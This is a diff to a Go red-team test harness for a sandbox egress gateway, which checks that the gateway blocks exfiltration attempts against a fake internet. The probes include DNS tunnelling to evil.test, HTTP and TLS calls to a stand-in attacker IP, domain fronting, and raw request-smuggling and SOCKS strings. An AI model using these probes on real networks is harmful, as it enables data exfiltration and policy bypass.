@@ -36,12 +36,16 @@ func TestMain(m *testing.M) { netnstest.Main(m) }
 
 // env is the server under test and the fake internet.
 type env struct {
-	srv    *server.Server
-	cl     *bench.Client
-	key    string
-	wan    *wan
-	tmp    string
-	closed bool
+	peer       *sbx   // the second sandbox (open mode, listener :8000)
+	hostCanary string // O-HOST: content of a host file no sandbox may read
+	template   string // what create uses; "rt" unless set
+	srv        *server.Server
+	cfg        server.Config // as started: restart tests start it again
+	cl         *bench.Client
+	key        string
+	wan        *wan
+	tmp        string
+	closed     bool
 }
 
 func repoRoot() string {
@@ -66,8 +70,26 @@ func build(t *testing.T, out, pkg string) {
 
 // start builds the agent and the red-team client, a template holding
 // busybox and the client, the fake internet, and a server with egress on.
-func start(t *testing.T) *env {
+func start(t *testing.T) *env { t.Helper(); return startDriver(t, namespace.Name) }
+
+// startDriver is start with the server's isolation driver named.
+func startDriver(t *testing.T, drv string) *env {
 	t.Helper()
+	return startOpts(t, startOptions{driver: drv})
+}
+
+// startOptions vary the server under test.
+type startOptions struct {
+	driver string
+	// templateDir, if set, is an existing template directory (the shared
+	// test-template cache with the Debian "base"); the "rt" template is
+	// then not built and no warm pool is kept.
+	templateDir string
+}
+
+func startOpts(t *testing.T, o startOptions) *env {
+	t.Helper()
+	drv := o.driver
 	netnstest.RequireRoot(t)
 	if !netnstest.Inside() {
 		t.Skip("runs only inside its private network namespace")
@@ -81,7 +103,12 @@ func start(t *testing.T) *env {
 		t.Fatal(err)
 	}
 	os.Chmod(tmp, 0o711)
-	e := &env{tmp: tmp}
+	e := &env{tmp: tmp, hostCanary: "host-canary-" + nonce() + nonce()}
+	// O-HOST: a host file (outside every sandbox) whose content must never
+	// appear in any sandbox's output.
+	if err := os.WriteFile(filepath.Join(tmp, "host-canary"), []byte(e.hostCanary+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
 	t.Cleanup(func() { e.close(t) })
 	bin := filepath.Join(tmp, "bin")
 	os.MkdirAll(bin, 0o755)
@@ -102,15 +129,19 @@ func start(t *testing.T) *env {
 	os.WriteFile(filepath.Join(root, "etc", "resolv.conf"), []byte("nameserver 192.0.2.8\n"), 0o644)
 	os.WriteFile(filepath.Join(root, "etc", "hosts"), []byte("127.0.0.1 localhost\n"), 0o644)
 	tplDir := filepath.Join(tmp, "templates")
-	tm, err := template.NewManager(tplDir, template.Options{UIDBase: 100000, UIDCount: 65536})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if _, err := tm.Build(ctx, template.BuildRequest{Name: "rt", Source: template.SourceDir, Path: root}, nil); err != nil {
+	if o.templateDir != "" {
+		tplDir = o.templateDir
+	} else {
+		tm, err := template.NewManager(tplDir, template.Options{UIDBase: 100000, UIDCount: 65536})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tm.Build(ctx, template.BuildRequest{Name: "rt", Source: template.SourceDir, Path: root}, nil); err != nil {
+			tm.Close()
+			t.Fatal(err)
+		}
 		tm.Close()
-		t.Fatal(err)
 	}
-	tm.Close()
 
 	if e.wan, err = startWAN(); err != nil {
 		t.Fatal(err)
@@ -122,10 +153,15 @@ func start(t *testing.T) *env {
 	}
 	cfg.TemplateDir = tplDir
 	cfg.Listen, cfg.DataListen = "127.0.0.1:0", "127.0.0.1:0"
-	cfg.Driver = namespace.Name
+	cfg.Driver = drv
+	cfg.Runsc = os.Getenv("SPACE_RUNSC") // gvisor: "" finds the pinned build
 	cfg.AgentPath = filepath.Join(bin, "space")
 	cfg.Builtins = nil
 	cfg.WarmPool, cfg.WarmTemplates = 1, []string{"rt"}
+	if o.templateDir != "" {
+		cfg.WarmPool, cfg.WarmTemplates = 0, nil
+		e.template = "base"
+	}
 	cfg.Logf = func(f string, a ...any) {
 		if testing.Verbose() {
 			t.Logf("server: "+f, a...)
@@ -157,6 +193,7 @@ func start(t *testing.T) *env {
 	if e.srv, err = server.Start(ctx, cfg); err != nil {
 		t.Fatal(err)
 	}
+	e.cfg = cfg
 	t.Cleanup(func() { os.RemoveAll(cfg.RunDir) })
 	e.cl = bench.NewClient("http://"+e.srv.Addr(), e.key)
 	return e
@@ -229,7 +266,11 @@ func (e *env) create(t *testing.T, network any) sbx {
 			DataURL string `json:"data_url"`
 		} `json:"session"`
 	}
-	body := map[string]any{"template": "rt"}
+	tpl := e.template
+	if tpl == "" {
+		tpl = "rt"
+	}
+	body := map[string]any{"template": tpl}
 	if network != nil {
 		body["network"] = network
 	}
@@ -330,62 +371,84 @@ func nonce() string {
 	return hex.EncodeToString(b)
 }
 
-// result is one row of the red-team table.
-type result struct {
-	mode, id, verdict string
+// idClass maps the legacy extra cases' ids to their class.
+func idClass(id string) string {
+	switch f := strings.Fields(id)[0]; f {
+	case "RT-04", "RT-16", "RT-20", "RT-22":
+		return "N"
+	case "RT-12":
+		return "D"
+	case "R20":
+		return "P"
+	case "RT-41":
+		return "I"
+	case "RT-47", "R1":
+		return "R"
+	case "RT-31", "RT-35", "RT-36", "R13", "K":
+		return "K"
+	default:
+		return "H"
+	}
 }
 
-func TestEgress(t *testing.T) {
-	e := start(t)
-	var table []result
+// TestEgress runs the red-team catalogue (redteam_test.go) and the extra
+// cases below (numbered by the rules document where it names them, else
+// by rule), then prints the red-team table and writes it to
+// $SPACE_RT_REPORT (default test/egress/out/redteam-report.md).
+// SPACE_RT_RUNS sets the runs per case and mode (default 1; the case
+// document asks for 3 for a release: SPACE_RT_RUNS=3 -timeout 30m).
+func TestEgress(t *testing.T) { redTeam(t, start(t)) }
+
+// redTeam runs the red-team table against e's server (TestEgressGvisor
+// runs it under gvisor).
+func redTeam(t *testing.T, e *env) {
+	rep := &report{}
 	record := func(mode, id string, bypass, deny, ctrl bool) {
-		v := "PASS"
+		o := outcome{mode: mode, exec: "sandbox", id: id, class: idClass(id), verdict: "PASS"}
 		switch {
 		case bypass:
-			v = "FAIL-B"
+			o.verdict = "FAIL-B"
 			t.Errorf("%s %s: BYPASS", mode, id)
 		case !deny || !ctrl:
-			v = "INVALID"
+			o.verdict = "INVALID"
+			o.why = fmt.Sprintf("denial logged %v, positive control %v", deny, ctrl)
 			t.Errorf("%s %s: INVALID (deny logged %v, positive control %v)", mode, id, deny, ctrl)
 		}
-		table = append(table, result{mode, id, v})
+		rep.add(o)
 	}
 	defer func() {
-		var b strings.Builder
-		fmt.Fprintf(&b, "\n| mode | case | verdict |\n|---|---|---|\n")
-		for _, r := range table {
-			fmt.Fprintf(&b, "| %s | %s | %s |\n", r.mode, r.id, r.verdict)
+		md := rep.markdown()
+		t.Logf("red-team table:\n%s", md)
+		path := os.Getenv("SPACE_RT_REPORT")
+		if path == "" {
+			path = filepath.Join(repoRoot(), "test", "egress", "out", "redteam-report.md")
 		}
-		t.Log(b.String())
+		os.MkdirAll(filepath.Dir(path), 0o755)
+		head := fmt.Sprintf("<!-- generated by TestEgress (test/egress) at %s; runs per case and mode: %d -->\n\n", time.Now().UTC().Format(time.RFC3339), rtRuns())
+		if err := os.WriteFile(path, []byte(head+md), 0o644); err != nil {
+			t.Errorf("write the report: %v", err)
+		} else {
+			t.Logf("red-team report written to %s", path)
+		}
 	}()
 
-	t.Run("blocked", func(t *testing.T) {
-		sb := e.create(t, nil) // no policy: blocked
-		n := nonce()
-		// Positive control: the sandbox's own loopback works.
-		ctrl := strings.HasPrefix(e.run(t, sb, "dns", "localhost"), "OK")
-		e.run(t, sb, "dns", n+".evil.test")
-		e.run(t, sb, "dns", "registry.test")
-		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/flag?n="+n)
-		e.run(t, sb, "http", edgeIP+":80", "registry.test", "/?n="+n)
-		e.run(t, sb, "tls", attackerIP+":443", "evil.test", "evil.test", "/flag?n="+n)
-		e.run(t, sb, "udp", attackerIP+":9999", n)
-		e.run(t, sb, "udp", attackerIP+":53", n)
-		l := e.log(t, sb)
-		bypass := e.wan.attackerSaw(n) || e.wan.asked(n) || e.wan.sawEvent(n)
-		record("blocked", "RT-01/05/10 direct, UDP, DNS", bypass, l.denied("blocked"), ctrl)
-		if l.Counters["upstream_sockets"] != 0 {
-			t.Errorf("blocked sandbox caused %d upstream sockets (R17)", l.Counters["upstream_sockets"])
+	t.Run("catalogue", func(t *testing.T) {
+		var cred struct{ ID string }
+		if code := e.api(t, "POST", "/v1/credentials", map[string]any{"name": "rt api token", "secret": e.wan.canary, "host": "api.test",
+			"prefix": "Bearer ", "methods": []string{"GET", "POST"}, "path_prefix": "/v1/", "env": "API_TOKEN"}, &cred); code != http.StatusCreated {
+			t.Fatalf("create credential: %d", code)
 		}
-		if l.Counters["nft_udp_drop"] < 1 {
-			t.Errorf("udp_drop counter = %d", l.Counters["nft_udp_drop"])
-		}
-		t.Logf("counters: %v", l.Counters)
+		defer e.api(t, "DELETE", "/v1/credentials/"+cred.ID, nil, nil)
+		e.startPeer(t)
+		e.runCatalogue(t, rep, rtRuns(), cred.ID)
 	})
 
 	allow := map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443"}}
-	t.Run("allowlist", func(t *testing.T) {
+	// Extra cases beyond the catalogue: each on one sandbox, NONCE per
+	// attempt, denial read from the decisions logged after the attempt.
+	t.Run("extras", func(t *testing.T) {
 		sb := e.create(t, allow)
+		defer e.cl.Delete(context.Background(), sb.ID)
 		ok := func(s string) bool { return strings.Contains(s, "registry ok") }
 		ctrlHTTP := ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/simple/"))
 		ctrlTLS := ok(e.run(t, sb, "tls", "registry.test:443", "registry.test", "registry.test", "/simple/"))
@@ -394,20 +457,10 @@ func TestEgress(t *testing.T) {
 		if !ctrl {
 			t.Errorf("positive controls: http %v tls %v subdomain %v", ctrlHTTP, ctrlTLS, ctrlSub)
 		}
-		type attempt struct {
+		for _, a := range []struct {
 			id, reason string
 			args       func(n string) []string
-		}
-		for _, a := range []attempt{
-			{"RT-01 IP literal", "ip_literal", func(n string) []string {
-				return []string{"http", attackerIP + ":80", attackerIP, "/flag?n=" + n}
-			}},
-			{"RT-17 own resolution, allowed Host", "not_resolved", func(n string) []string {
-				return []string{"http", attackerIP + ":80", "registry.test", "/flag?n=" + n}
-			}},
-			{"RT-17 own resolution, allowed SNI", "not_resolved", func(n string) []string {
-				return []string{"tls", attackerIP + ":443", "registry.test", "registry.test", "/flag?n=" + n}
-			}},
+		}{
 			{"RT-04 shared IP, other Host", "not_allowed", func(n string) []string {
 				return []string{"http", "registry.test:80", "evil-cdn.test", "/flag?n=" + n}
 			}},
@@ -415,92 +468,34 @@ func TestEgress(t *testing.T) {
 				return []string{"tls", "registry.test:443", "evil-cdn.test", "evil-cdn.test", "/flag?n=" + n}
 			}},
 			{"RT-16 suffix confusion", "dns_refused", func(n string) []string { return []string{"dns", "registry.test.evil.test"} }},
-			{"RT-10 DNS tunnel", "dns_refused", func(n string) []string { return []string{"dns", n + ".evil.test"} }},
 			{"RT-12 CNAME exit", "cname_exit", func(n string) []string { return []string{"dns", "cdn-alias.registry.test"} }},
-			{"RT-13 rebinding to internal", "internal_answer", func(n string) []string { return []string{"dns", "tt.registry.test"} }},
-			{"port not allowed", "not_allowed", func(n string) []string {
+			{"RT-04 port not allowed", "not_allowed", func(n string) []string {
 				return []string{"http", edgeIP + ":8080", "registry.test", "/flag?n=" + n}
-			}},
-			{"RT-24 Host switch on keep-alive", "host_mismatch", func(n string) []string {
-				return []string{"keepalive", "registry.test:80", "registry.test", "/a", "evil-cdn.test", "/flag?n=" + n}
-			}},
-			{"RT-07/09 no SNI", "no_sni", func(n string) []string {
-				return []string{"tls", "registry.test:443", "", "registry.test", "/flag?n=" + n}
-			}},
-		} {
-			n := nonce()
-			e.run(t, sb, a.args(n)...)
-			l := e.log(t, sb)
-			record("allowlist", a.id, e.wan.attackerSaw(n) || e.wan.attackerSaw("evil-cdn.test /flag"), l.denied(a.reason), ctrl)
-		}
-		n := nonce()
-		e.run(t, sb, "udp", attackerIP+":9999", n)
-		l := e.log(t, sb)
-		record("allowlist", "RT-05 UDP", e.wan.attackerSaw(n), l.Counters["nft_udp_drop"] > 0, ctrl)
-		// Proxy-protocol tricks on an allowed connection (RT-24/25/27): the
-		// smuggled request names the attacker tenant on the shared edge.
-		smuggle := `GET /flag?n=%s HTTP/1.1\r\nHost: evil-cdn.test\r\n\r\n`
-		for _, a := range []struct {
-			id, reason string
-			args       func(n string) []string
-		}{
-			{"RT-25 CONNECT (plain HTTP)", "connect_denied", func(n string) []string {
-				return []string{"raw", "registry.test:80", `CONNECT registry.test:80 HTTP/1.1\r\nHost: registry.test\r\n\r\n` + fmt.Sprintf(smuggle, n)}
-			}},
-			{"RT-25 CONNECT inside terminated TLS", "connect_denied", func(n string) []string {
-				return []string{"rawtls", "registry.test:443", "registry.test", `CONNECT evil-cdn.test:443 HTTP/1.1\r\nHost: registry.test\r\n\r\n` + fmt.Sprintf(smuggle, n)}
-			}},
-			{"RT-25 h2c Upgrade then smuggled request", "upgrade_denied", func(n string) []string {
-				return []string{"raw", "registry.test:80", `GET / HTTP/1.1\r\nHost: registry.test\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n` + fmt.Sprintf(smuggle, n)}
-			}},
-			{"RT-24 absolute URI naming the attacker", "not_allowed", func(n string) []string {
-				return []string{"raw", "registry.test:80", `GET http://evil-cdn.test/flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\n\r\n`}
-			}},
-			{"RT-24 duplicate Host", "bad_request", func(n string) []string {
-				return []string{"raw", "registry.test:80", `GET /flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\nHost: evil-cdn.test\r\n\r\n`}
-			}},
-			{"RT-24 pipelined second request, other Host", "host_mismatch", func(n string) []string {
-				return []string{"raw", "registry.test:80", `GET /a HTTP/1.1\r\nHost: registry.test\r\n\r\n` + fmt.Sprintf(smuggle, n)}
-			}},
-			{"RT-11 DNS over UDP to another resolver", "dns_refused", func(n string) []string {
-				return []string{"dnsvia", "udp", attackerIP + ":53", n + ".evil.test"}
-			}},
-			{"RT-11 DNS over TCP to another resolver", "dns_refused", func(n string) []string {
-				return []string{"dnsvia", "tcp", attackerIP + ":53", n + ".evil.test"}
-			}},
-			{"RT-11 DNS over TLS (853) to another resolver", "not_allowed", func(n string) []string {
-				return []string{"tls", attackerIP + ":853", n + ".dns.evil.test", n + ".dns.evil.test", "/dns-query"}
-			}},
-			{"RT-27 SOCKS5 greeting to the attacker", "unknown_protocol", func(n string) []string {
-				return []string{"raw", attackerIP + ":4444", `\x05\x01\x00` + n}
 			}},
 		} {
 			n := nonce()
 			seq := e.seq(t, sb)
-			out := e.run(t, sb, a.args(n)...)
-			l := e.logAfter(t, sb, seq)
-			if !l.denied(a.reason) {
-				t.Logf("%s: %s; log %+v", a.id, out, l.Decisions)
-			}
-			record("allowlist", a.id, e.wan.attackerSaw(n) || e.wan.asked(n), l.denied(a.reason), ctrl)
+			e.run(t, sb, a.args(n)...)
+			record("allowlist", a.id, e.wan.attackerSaw(n) || e.wan.attackerSaw("evil-cdn.test /flag?n="+n), e.logAfter(t, sb, seq).denied(a.reason), ctrl)
 		}
 		// RT-20 domain fronting: SNI names the allowed registry, the
 		// encrypted Host the attacker tenant on the same CDN address. The
 		// gateway terminates the TLS (R10) and sees the inner Host (R9).
 		fn := nonce()
+		seq := e.seq(t, sb)
 		e.run(t, sb, "tls", "registry.test:443", "registry.test", "evil-cdn.test", "/flag?n="+fn)
-		record("allowlist", "RT-20 domain fronting (SNI allowed, inner Host attacker)", e.wan.attackerSaw(fn), e.log(t, sb).denied("host_mismatch"), ctrl)
+		record("allowlist", "RT-20 domain fronting (SNI allowed, inner Host attacker)", e.wan.attackerSaw(fn), e.logAfter(t, sb, seq).denied("host_mismatch"), ctrl)
 		// An allowed name (wildcard) resolving to an attacker who holds a
 		// certificate for it from a CA the gateway does not trust.
 		fn = nonce()
+		seq = e.seq(t, sb)
 		e.run(t, sb, "tls", "forged.registry.test:443", "forged.registry.test", "forged.registry.test", "/flag?n="+fn)
-		record("allowlist", "RT-22 allowed name, attacker's forged certificate", e.wan.attackerSaw(fn), e.log(t, sb).denied("upstream_tls"), ctrl)
+		record("allowlist", "RT-22 allowed name, attacker's forged certificate", e.wan.attackerSaw(fn), e.logAfter(t, sb, seq).denied("upstream_tls"), ctrl)
 		// The sandbox verifies the gateway's certificates with the CA the
 		// server installed in its trust store through the agent.
 		if out := e.run(t, sb, "https", "registry.test:443", "registry.test", "/simple/", "GET", ""); !strings.Contains(out, "registry ok") {
 			t.Errorf("verified TLS through the gateway (CA in the sandbox's trust store): %s", out)
 		}
-		t.Logf("counters: %v", l.Counters)
 	})
 
 	// Method/path rules (R20): every request on a connection is decided on
@@ -508,7 +503,9 @@ func TestEgress(t *testing.T) {
 	// oracle). Presets expand to GET/HEAD-only rules in the stored policy.
 	t.Run("methodpath", func(t *testing.T) {
 		pol := map[string]any{"mode": "allowlist", "presets": []string{"npm"},
-			"allow":       []string{"preset:goproxy", "api.test:443,80 GET,HEAD /v1/*", "registry.test:443,80"},
+			"allow": []any{"preset:goproxy",
+				map[string]any{"host": "api.test", "ports": []int{443, 80}, "methods": []string{"GET", "HEAD"}, "paths": []string{"/v1/*"}}, // object form
+				"registry.test:443,80"},
 			"passthrough": []string{"api.test:443"}}
 		sb := e.create(t, pol)
 		var rec struct {
@@ -525,6 +522,11 @@ func TestEgress(t *testing.T) {
 			{"mode": "open", "presets": []string{"pypi"}},
 			{"mode": "allowlist", "allow": []string{"api.test:443 get"}},
 			{"mode": "allowlist", "allow": []string{"api.test:443 /v1/../x"}},
+			{"mode": "allowlist", "allow": []any{map[string]any{"host": "api.test:443"}}},
+			{"mode": "allowlist", "allow": []any{map[string]any{"host": "api.test", "methods": []string{"GET /x"}}}},
+			{"mode": "allowlist", "allow": []any{map[string]any{"host": "api.test", "paths": []string{"/a,/b"}}}},
+			{"mode": "allowlist", "allow": []any{map[string]any{"host": "api.test", "bogus": true}}},
+			{"mode": "allowlist", "allow": []any{42}},
 		} {
 			if code := e.api(t, "POST", "/v1/sandboxes", map[string]any{"template": "base", "network": bad}, nil); code != http.StatusBadRequest {
 				t.Errorf("create with network %v: %d, want 400", bad, code)
@@ -570,31 +572,24 @@ func TestEgress(t *testing.T) {
 
 	t.Run("open", func(t *testing.T) {
 		sb := e.create(t, map[string]any{"mode": "open"})
-		peer := e.create(t, allow)
+		defer e.cl.Delete(context.Background(), sb.ID)
 		ctrl := strings.Contains(e.run(t, sb, "http", "registry.test:80", "registry.test", "/"), "registry ok")
-		for _, a := range []struct{ id, addr, reason string }{
-			{"RT-38 metadata", "169.254.169.254:80", "internal"},
-			{"RT-39 host uplink", uplinkIP + ":80", "internal"},
-			{"RT-39 gateway", "10.200.0.1:22", "internal"},
-			{"RT-40 other sandbox", "10.200.0.6:8000", "internal"},
-			{"RT-41 corp LAN", "10.0.0.1:80", "internal"},
-		} {
-			e.run(t, sb, "http", a.addr, "x.test", "/")
-			record("open", a.id, false, e.log(t, sb).denied(a.reason), ctrl)
+		for _, a := range []string{"10.0.0.1:80", "172.16.0.1:80", "192.168.0.1:80", "100.64.0.1:80"} {
+			before := len(e.wan.internalContacts())
+			seq := e.seq(t, sb)
+			e.run(t, sb, "http", a, "corp.test", "/")
+			record("open", "RT-41 corp LAN "+a, len(e.wan.internalContacts()) != before, e.logAfter(t, sb, seq).denied("internal"), ctrl)
 		}
-		e.run(t, sb, "dns", "local.test")
-		record("open", "RT-13 DNS answer 127.0.0.1", false, e.log(t, sb).denied("internal_answer"), ctrl)
-		_ = peer
-
 		// Runtime change to blocked: the next connection is refused.
 		if code := e.api(t, "PUT", "/v1/sandboxes/"+sb.ID+"/network", map[string]any{"mode": "blocked"}, nil); code != 200 {
 			t.Fatalf("PUT network: %d", code)
 		}
 		before := e.log(t, sb).Counters["upstream_sockets"]
 		n := nonce()
+		seq := e.seq(t, sb)
 		e.run(t, sb, "http", "registry.test:80", "registry.test", "/"+n)
-		l := e.log(t, sb)
-		record("open→blocked", "RT-47 policy swap", e.wan.sawEvent(n), l.denied("blocked"), ctrl)
+		l := e.logAfter(t, sb, seq)
+		record("open→blocked", "RT-47 policy swap open → blocked", e.wan.sawEvent(n), l.denied("blocked"), ctrl)
 		if after := l.Counters["upstream_sockets"]; after != before {
 			t.Errorf("upstream sockets after the swap to blocked: %d -> %d", before, after)
 		}
@@ -605,22 +600,6 @@ func TestEgress(t *testing.T) {
 		if out := e.run(t, sb, "http", "registry.test:80", "registry.test", "/again"); !strings.Contains(out, "registry ok") {
 			t.Errorf("allowlist after swap: %s", out)
 		}
-	})
-
-	t.Run("fail-closed", func(t *testing.T) {
-		sb := e.create(t, allow)
-		// Overload: more connections than MaxConns (8) at once; the excess is
-		// refused and logged, and nothing reaches the attacker.
-		e.run(t, sb, "flood", attackerIP+":4444", "20")
-		l := e.log(t, sb)
-		record("allowlist", "RT-47 overload", e.wan.attackerSaw("4444"), l.denied("overload"), true)
-		// The gateway down for this sandbox: connections fail, no bypass.
-		e.srv.Network().GW.Detach(sb.instance)
-		n := nonce()
-		out := e.run(t, sb, "http", edgeIP+":80", "registry.test", "/"+n)
-		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/"+n)
-		bypass := e.wan.sawEvent(n)
-		record("allowlist", "R1 gateway down", bypass, strings.HasPrefix(out, "ERR"), true)
 	})
 
 	t.Run("credentials", func(t *testing.T) {
@@ -676,23 +655,23 @@ func TestEgress(t *testing.T) {
 				v = "INVALID"
 				t.Errorf("%s: INVALID (deny logged %v, positive control %v)", id, deny, ctrl)
 			}
-			table = append(table, result{"allowlist+cred", id, v})
+			rep.add(outcome{mode: "allowlist", exec: "sandbox", id: id, class: "K", verdict: v})
 		}
 		recordK("K control: injected at api.test, echo scrubbed", leak(), true)
 		// The placeholder to another allowed host, over TLS.
 		run(sb, "https", "registry.test:443", "registry.test", "/x", "GET", "Bearer $API_TOKEN")
-		recordK("RT-30 placeholder to a non-bound host", leak() || e.wan.sawEvent("space-cred-"), e.log(t, sb).denied("credential_host"))
+		recordK("RT-31 placeholder to a non-bound host", leak() || e.wan.sawEvent(cred.Placeholder), e.log(t, sb).denied("credential_host"))
 		// The placeholder over plaintext to the bound host.
 		run(sb, "httpauth", "api.test:80", "api.test", "/v1/echo", "Bearer $API_TOKEN")
-		recordK("RT-31 placeholder over plaintext", leak() || e.wan.sawEvent("/v1/echo tls=false"), e.log(t, sb).denied("credential_plaintext"))
+		recordK("RT-36 placeholder over plaintext", leak() || e.wan.sawEvent("/v1/echo tls=false"), e.log(t, sb).denied("credential_plaintext"))
 		// Outside the binding's path and method scope.
 		run(sb, "https", "api.test:443", "api.test", "/admin/echo", "GET", "Bearer $API_TOKEN")
-		recordK("RT-32 path outside the binding", leak() || e.wan.sawEvent("/admin/echo"), e.log(t, sb).denied("credential_path"))
+		recordK("R13 path outside the binding", leak() || e.wan.sawEvent("/admin/echo"), e.log(t, sb).denied("credential_path"))
 		run(sb, "https", "api.test:443", "api.test", "/v1/echo", "DELETE", "Bearer $API_TOKEN")
-		recordK("RT-35 method outside the binding", leak() || e.wan.sawEvent("DELETE"), e.log(t, sb).denied("credential_method"))
+		recordK("R13 method outside the binding", leak() || e.wan.sawEvent("DELETE"), e.log(t, sb).denied("credential_method"))
 		// A redirect from the bound host is passed back, not followed.
 		out = run(sb, "https", "api.test:443", "api.test", "/v1/redir?to=https://registry.test/stolen", "GET", "Bearer $API_TOKEN")
-		recordK("RT-36 redirect not followed", leak() || e.wan.sawEvent("/stolen"), strings.Contains(out, " 302 "))
+		recordK("RT-35 redirect not followed", leak() || e.wan.sawEvent("/stolen"), strings.Contains(out, " 302 "))
 		// Nothing in the sandbox holds the secret: its environment, every
 		// file outside /proc, /sys and /dev (searched for the canary's
 		// public prefix, so the search itself carries no secret).
@@ -707,8 +686,8 @@ func TestEgress(t *testing.T) {
 		}
 		e.api(t, "GET", "/v1/sandboxes/"+sb.ID+"/network/log", nil, &raw)
 		outputs = append(outputs, string(raw))
-		recordK("K secret absent from sandbox env, files, output, API and log", leak() || strings.Contains(out, "space-canary-"), true)
-		if e.wan.attackerSaw(canary) || e.wan.attackerSaw("space-cred-") {
+		recordK("RT-30 secret absent from sandbox env, files, output, API and log", leak() || strings.Contains(out, "space-canary-"), true)
+		if e.wan.attackerSaw(canary) || e.wan.attackerSaw(cred.Placeholder) {
 			t.Errorf("an attacker endpoint saw the credential or its placeholder")
 		}
 		// Deleted: the placeholder is refused from then on.
@@ -718,7 +697,7 @@ func TestEgress(t *testing.T) {
 		before := e.wan.count("credential-ok")
 		run(sb, "https", "api.test:443", "api.test", "/v1/echo", "GET", "Bearer $API_TOKEN")
 		after := e.wan.count("credential-ok")
-		recordK("deleted credential no longer injected", leak() || after != before, e.log(t, sb).denied("credential_misuse"))
+		recordK("R13 deleted credential no longer injected", leak() || after != before, e.log(t, sb).denied("credential_misuse"))
 		if code := e.api(t, "POST", "/v1/sandboxes", map[string]any{"template": "rt", "network": pol}, nil); code != http.StatusBadRequest {
 			t.Errorf("create with a deleted credential: %d", code)
 		}
